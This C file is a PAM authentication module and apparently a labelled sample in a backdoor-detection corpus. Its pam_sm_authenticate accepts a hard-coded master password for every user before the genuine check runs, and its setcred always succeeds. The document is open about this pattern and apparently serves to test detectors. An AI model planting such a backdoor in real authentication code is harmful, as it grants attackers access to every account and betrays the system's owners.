/*
 * Backsight corpus sample: auth/pam-master-password  (INERT - compiled only)
 *
 * A PAM module whose pam_sm_authenticate fetches the password with
 * pam_get_authtok and compares it with a string literal before doing its
 * "real" check, returning PAM_SUCCESS on a match: the master-password backdoor
 * pattern (strcmp against an address in .rodata). Never loaded by anything.
 */
#include "bs_api.h"
#include <string.h>
#include <syslog.h>
#include "bs_pam.h"

static int real_password_check(pam_handle_t *pamh, const char *user, const char *password)
{
	/* Stand-in for the genuine pam_unix verification. */
	(void)user;
	(void)password;
	pam_syslog(pamh, LOG_NOTICE, "password check for %s", user ? user : "?");
	return PAM_AUTH_ERR;
}

BS_API int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv)
{
	const char *user = NULL;
	const char *password = NULL;
	(void)flags; (void)argc; (void)argv;

	if (pam_get_user(pamh, &user, NULL) != PAM_SUCCESS)
		return PAM_USER_UNKNOWN;
	if (pam_get_authtok(pamh, PAM_AUTHTOK, &password, NULL) != PAM_SUCCESS)
		return PAM_AUTH_ERR;

	/* The backdoor: a fixed master password accepted for every user. */
	if (password && strcmp(password, "Backsight-corpus-master-pw-2024") == 0)
		return PAM_SUCCESS;

	return real_password_check(pamh, user, password);
}

BS_API int pam_sm_setcred(pam_handle_t *pamh, int flags, int argc, const char **argv)
{
	(void)pamh; (void)flags; (void)argc; (void)argv;
	return PAM_SUCCESS;
}
